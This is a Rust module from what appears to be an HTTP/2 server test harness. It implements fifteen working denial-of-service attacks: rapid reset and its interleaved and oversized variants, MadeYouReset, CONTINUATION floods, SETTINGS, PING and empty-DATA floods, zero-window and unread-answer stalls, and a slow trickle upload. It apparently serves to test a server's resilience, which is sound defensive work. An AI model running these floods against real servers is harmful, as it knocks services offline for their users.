//! The attacks: what each sends, and how (one write per stream, or batches
//! of frames), within a [`Budget`].

use std::time::Duration;

use super::wire::{Answer, Flow, Options, Wire, window_update};
use super::{Budget, Call, Server};
use crate::h2spec::frame::{Frame, Headers, code, flag, kind, setting};

/// Frames per write in the floods.
const BATCH: usize = 10_000;
/// Bytes of answer the zero-window streams ask for (over a 64 KiB window).
const ZERO_WINDOW_ANSWER: usize = 80 << 10;
/// Bytes of answer the non-reading client asks for.
const UNREAD_ANSWER: usize = 8 << 20;
/// Pairs of the reset-before-handler attack (the figure).
const RESET_PAIRS: u64 = 300;
/// PINGs of the burst before the silence.
const PING_BURST: u64 = 100_000;
/// Streams of the trickling client: twice the script's agent's 64 worker
/// slots.
const TRICKLE_STREAMS: u64 = 128;
/// Bytes of body each trickling request declares.
const TRICKLE_BYTES: usize = 1 << 20;
/// What a trickling request sends at once: its head and the first bytes.
const TRICKLE_FIRST: usize = 64 << 10;
/// Time between a trickling client's rounds of one byte per stream.
pub const TRICKLE_EVERY: Duration = Duration::from_millis(100);

/// One attack of issue 24.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// 300 × (HEADERS + RST_STREAM in one write), then a normal request on
    /// the same connection.
    ResetBeforeHandler,
    /// INITIAL_WINDOW_SIZE 0, as many requests with answers over 64 KiB as
    /// the server takes at once,
    /// no WINDOW_UPDATE, held.
    ZeroWindow,
    /// HEADERS + RST_STREAM, one write per stream, as fast as possible.
    RapidReset,
    /// Rapid reset with every other stream a request the server answers
    /// itself (unknown model / missing file).
    RapidResetInterleaved,
    /// Rapid reset with every other stream a request whose headers exceed
    /// the header list limit.
    RapidResetOversized,
    /// A complete request, then WINDOW_UPDATE 0 on its stream (the server
    /// must reset it), one write per stream.
    MadeYouResetWindow,
    /// A complete request, then DATA after its END_STREAM (the server must
    /// reset it), one write per stream.
    MadeYouResetData,
    /// HEADERS without END_HEADERS, then empty CONTINUATION frames.
    ContinuationEmpty,
    /// HEADERS without END_HEADERS, then CONTINUATION frames of one 1 KiB
    /// header field each.
    ContinuationFields,
    /// Empty SETTINGS frames from a client that does not read.
    SettingsFlood,
    /// PING frames from a client that does not read.
    PingFlood,
    /// 100,000 PINGs, then silence, never reading.
    PingBurst,
    /// Empty DATA frames on an open stream, never reading.
    EmptyDataFlood,
    /// An 8 MiB answer the client never reads.
    UnreadAnswer,
    /// 128 large requests (1 MiB declared), each its head and 64 KiB, then
    /// one byte per stream every 100 ms, never the last (issue 27's
    /// cut-through: a body that trickles once its request has a worker).
    TrickleUpload,
}

impl Attack {
    /// Every attack, in the order.
    pub const ALL: [Attack; 15] = [
        Attack::ResetBeforeHandler,
        Attack::ZeroWindow,
        Attack::RapidReset,
        Attack::RapidResetInterleaved,
        Attack::RapidResetOversized,
        Attack::MadeYouResetWindow,
        Attack::MadeYouResetData,
        Attack::ContinuationEmpty,
        Attack::ContinuationFields,
        Attack::SettingsFlood,
        Attack::PingFlood,
        Attack::PingBurst,
        Attack::EmptyDataFlood,
        Attack::UnreadAnswer,
        Attack::TrickleUpload,
    ];

    /// Its name on the command line and in reports.
    pub fn name(self) -> &'static str {
        match self {
            Attack::ResetBeforeHandler => "reset-before-handler",
            Attack::ZeroWindow => "zero-window",
            Attack::RapidReset => "rapid-reset",
            Attack::RapidResetInterleaved => "rapid-reset-interleaved",
            Attack::RapidResetOversized => "rapid-reset-oversized",
            Attack::MadeYouResetWindow => "made-you-reset-window",
            Attack::MadeYouResetData => "made-you-reset-data",
            Attack::ContinuationEmpty => "continuation-empty",
            Attack::ContinuationFields => "continuation-fields",
            Attack::SettingsFlood => "settings-flood",
            Attack::PingFlood => "ping-flood",
            Attack::PingBurst => "ping-burst",
            Attack::EmptyDataFlood => "empty-data-flood",
            Attack::UnreadAnswer => "unread-answer",
            Attack::TrickleUpload => "trickle-upload",
        }
    }

    /// The attack named `name`.
    pub fn parse(name: &str) -> Option<Attack> {
        Attack::ALL.into_iter().find(|a| a.name() == name)
    }

    /// How it connects.
    pub fn options(self) -> Options {
        let mut opts = Options::default();
        match self {
            Attack::ZeroWindow => opts.settings = vec![(setting::INITIAL_WINDOW_SIZE, 0)],
            Attack::SettingsFlood
            | Attack::PingFlood
            | Attack::PingBurst
            | Attack::EmptyDataFlood => opts.paused = true,
            Attack::UnreadAnswer => opts.recv_buffer = Some(64 << 10),
            _ => {}
        }
        opts
    }

    /// Whether it holds the connection open for the rest of the budget's
    /// time once it has sent what it sends.
    pub fn holds(self) -> bool {
        matches!(
            self,
            Attack::ZeroWindow | Attack::PingBurst | Attack::UnreadAnswer
        )
    }

    /// Sends the attack on `wire`; returns what it observed on the way.
    pub fn drive(self, wire: &mut Wire, server: Server, budget: Budget) -> String {
        let authority = wire.authority.clone();
        match self {
            Attack::ResetBeforeHandler => reset_before_handler(wire, server, budget),
            Attack::ZeroWindow => {
                let call = server.large_answer(&authority, ZERO_WINDOW_ANSWER);
                // As many as the server allows at once (more would be a
                // protocol error once its SETTINGS are acknowledged).
                wire.wait_for(Duration::from_secs(5), |s| s.server_settings.is_some());
                let allowed = wire.seen(|s| {
                    s.server_settings
                        .as_ref()
                        .and_then(|m| m.get(&setting::MAX_CONCURRENT_STREAMS).copied())
                        .unwrap_or(100)
                });
                let n = budget.max_streams.min(u64::from(allowed));
                for _ in 0..n {
                    send_call(wire, &call);
                }
                let _ = wire.flush();
                format!("{n} streams opened")
            }
            Attack::RapidReset => per_stream(wire, budget, |w, _| {
                let s = w.open(&server.request(&authority).fields, false);
                w.queue(rst(s));
            }),
            Attack::RapidResetInterleaved => {
                let answered = server.answered_at_once(&authority);
                let request = server.request(&authority);
                per_stream(wire, budget, |w, i| {
                    if i % 2 == 1 {
                        send_call(w, &answered);
                    } else {
                        let s = w.open(&request.fields, false);
                        w.queue(rst(s));
                    }
                })
            }
            Attack::RapidResetOversized => {
                let oversized = server.oversized(&authority);
                let request = server.request(&authority);
                per_stream(wire, budget, |w, i| {
                    if i % 2 == 1 {
                        send_call(w, &oversized);
                    } else {
                        let s = w.open(&request.fields, false);
                        w.queue(rst(s));
                    }
                })
            }
            Attack::MadeYouResetWindow => {
                let call = server.request(&authority);
                per_stream(wire, budget, |w, _| {
                    let s = send_call(w, &call);
                    w.queue(window_update(s, 0));
                })
            }
            Attack::MadeYouResetData => {
                let call = server.request(&authority);
                per_stream(wire, budget, |w, _| {
                    let s = send_call(w, &call);
                    w.queue(Frame::new(kind::DATA, flag::END_STREAM, s, b"x".to_vec()));
                })
            }
            Attack::ContinuationEmpty => {
                let call = server.request(&authority);
                let s = open_unfinished(wire, &call);
                let frame = Frame::new(kind::CONTINUATION, 0, s, Vec::new()).encode();
                flood(wire, budget, &frame)
            }
            Attack::ContinuationFields => {
                let call = server.request(&authority);
                let s = open_unfinished(wire, &call);
                // A literal field without indexing, new name: 1 KiB each.
                let mut block = vec![0x00, 0x05];
                block.extend_from_slice(b"x-pad");
                block.extend_from_slice(&[0x7f, 0x81, 0x07]); // 127 + 897 = 1024
                block.resize(block.len() + 1024, b'x');
                let frame = Frame::new(kind::CONTINUATION, 0, s, block).encode();
                flood(wire, budget, &frame)
            }
            Attack::SettingsFlood => {
                let frame = Frame::new(kind::SETTINGS, 0, 0, Vec::new()).encode();
                flood(wire, budget, &frame)
            }
            Attack::PingFlood => flood(wire, budget, &ping()),
            Attack::PingBurst => {
                let burst = Budget {
                    max_frames: PING_BURST.min(budget.max_frames),
                    ..budget
                };
                flood(wire, burst, &ping())
            }
            Attack::EmptyDataFlood => {
                let s = wire.open(&server.request(&authority).fields, false);
                let frame = Frame::new(kind::DATA, 0, s, Vec::new()).encode();
                flood(wire, budget, &frame)
            }
            Attack::UnreadAnswer => {
                let call = server.large_answer(&authority, UNREAD_ANSWER);
                send_call(wire, &call);
                let flow = wire.flush();
                // The request is out (its body needed the server's window
                // updates, so the reader ran until now): stop reading.
                wire.pause_reading(true);
                format!("request sent ({flow:?}); not reading the answer")
            }
            Attack::TrickleUpload => {
                let n = budget.max_streams.min(TRICKLE_STREAMS) as usize;
                let mut trickle = Trickle::open(wire, server, n);
                while wire.elapsed() < budget.duration && !wire.seen(|s| s.over()) {
                    std::thread::sleep(TRICKLE_EVERY);
                    trickle.step(wire);
                }
                format!("{n} streams, {} bytes each trickled", trickle.sent)
            }
        }
    }
}

/// Large requests whose bodies trickle: each stream got its request's
/// head and first bytes, then gets a byte per [`Trickle::step`].
pub struct Trickle {
    streams: Vec<u32>,
    body: Vec<u8>,
    /// Bytes of each body sent so far.
    pub sent: usize,
}

impl Trickle {
    /// Opens `n` streams of large requests on `wire`, each with its head
    /// and first bytes.
    pub fn open(wire: &mut Wire, server: Server, n: usize) -> Trickle {
        let call = server.large_request(&wire.authority.clone(), TRICKLE_BYTES);
        let first = TRICKLE_FIRST.min(call.body.len() - 1);
        let streams = (0..n)
            .map(|_| {
                let s = wire.open(&call.fields, false);
                wire.send_body(s, &call.body[..first], false);
                s
            })
            .collect();
        let _ = wire.flush();
        Trickle {
            streams,
            body: call.body,
            sent: first,
        }
    }

    /// Sends one more byte of each body (never the last).
    pub fn step(&mut self, wire: &mut Wire) {
        if self.sent + 1 >= self.body.len() {
            return;
        }
        let byte = [self.body[self.sent]];
        for &s in &self.streams {
            wire.send_body(s, &byte, false);
        }
        self.sent += 1;
        let _ = wire.flush();
    }
}

/// The pairs, then a normal request on the same connection: what it got.
fn reset_before_handler(wire: &mut Wire, server: Server, budget: Budget) -> String {
    let call = server.request(&wire.authority.clone());
    let pairs = budget.max_streams.min(RESET_PAIRS);
    for _ in 0..pairs {
        let s = wire.open(&call.fields, false);
        wire.queue(rst(s));
        if wire.flush() == Flow::Closed {
            break;
        }
    }
    match exchange(wire, &call, Duration::from_secs(10)) {
        Some(answer) => format!("{pairs} pairs; then a request: {}", describe(&answer)),
        None => format!("{pairs} pairs; then a request: no answer (connection over or 10 s)"),
    }
}

/// Sends `call` and waits up to `timeout` for its stream to end (answered
/// or reset); `None` if the connection ended or time ran out first.
pub fn exchange(wire: &mut Wire, call: &Call, timeout: Duration) -> Option<Answer> {
    let s = send_call(wire, call);
    if wire.flush() == Flow::Closed {
        return None;
    }
    let done = |seen: &super::Seen| {
        seen.answers
            .get(&s)
            .is_some_and(|a| a.ended || a.reset.is_some())
    };
    wire.wait_for(timeout, |seen| done(seen) || seen.over());
    wire.seen(|seen| seen.answers.get(&s).filter(|_| done(seen)).cloned())
}

/// An answer in a few words: the reset, or the statuses.
pub fn describe(answer: &Answer) -> String {
    if let Some(code) = answer.reset {
        return format!("RST_STREAM {}", crate::h2spec::frame::code_name(code));
    }
    let mut parts = Vec::new();
    for name in [":status", "grpc-status", "grpc-message"] {
        if let Some(v) = answer.field(name) {
            parts.push(format!("{name} {v}"));
        }
    }
    parts.join(", ")
}

/// Opens a stream with `call`'s headers and queues its body; its id.
fn send_call(wire: &mut Wire, call: &Call) -> u32 {
    let s = wire.open(&call.fields, call.body.is_empty());
    if !call.body.is_empty() {
        wire.send_body(s, &call.body, true);
    }
    s
}

fn rst(stream: u32) -> Frame {
    Frame::new(
        kind::RST_STREAM,
        0,
        stream,
        code::CANCEL.to_be_bytes().to_vec(),
    )
}

fn ping() -> Vec<u8> {
    Frame::new(kind::PING, 0, 0, b"h2attack".to_vec()).encode()
}

/// Queues HEADERS for `call` without END_HEADERS; the stream id.
fn open_unfinished(wire: &mut Wire, call: &Call) -> u32 {
    let stream = wire.take_stream_id();
    let block = wire.encode(&call.fields);
    let headers = Headers {
        stream,
        block,
        end_stream: call.body.is_empty(),
        end_headers: false,
        ..Default::default()
    };
    wire.queue(headers.frame());
    stream
}

/// Sends what `step` queues for stream number `i`, one write per stream,
/// until the budget or the connection ends.
fn per_stream(wire: &mut Wire, budget: Budget, mut step: impl FnMut(&mut Wire, u64)) -> String {
    let mut i = 0;
    while i < budget.max_streams && wire.elapsed() < budget.duration {
        step(wire, i);
        i += 1;
        if wire.flush() == Flow::Closed || wire.seen(|s| s.over()) {
            break;
        }
    }
    format!("{i} steps")
}

/// Writes `frame` (encoded) over and over in batches of [`BATCH`] until the
/// budget or the connection ends; a batch the server does not read stays
/// queued and is retried.
fn flood(wire: &mut Wire, budget: Budget, frame: &[u8]) -> String {
    let batch: Vec<u8> = frame.repeat(BATCH);
    let mut blocked_writes = 0u64;
    while wire.frames() < budget.max_frames && wire.elapsed() < budget.duration {
        if wire.queued() == 0 {
            let n = (budget.max_frames - wire.frames()).min(BATCH as u64);
            wire.queue_encoded(&batch[..frame.len() * n as usize], n);
        }
        match wire.flush() {
            Flow::Sent => {}
            Flow::Blocked => blocked_writes += 1,
            Flow::Closed => break,
        }
        if wire.seen(|s| s.over()) {
            break;
        }
    }
    // Let the rest of a final batch go if the server reads it.
    let _ = wire.flush();
    format!("{blocked_writes} writes blocked")
}
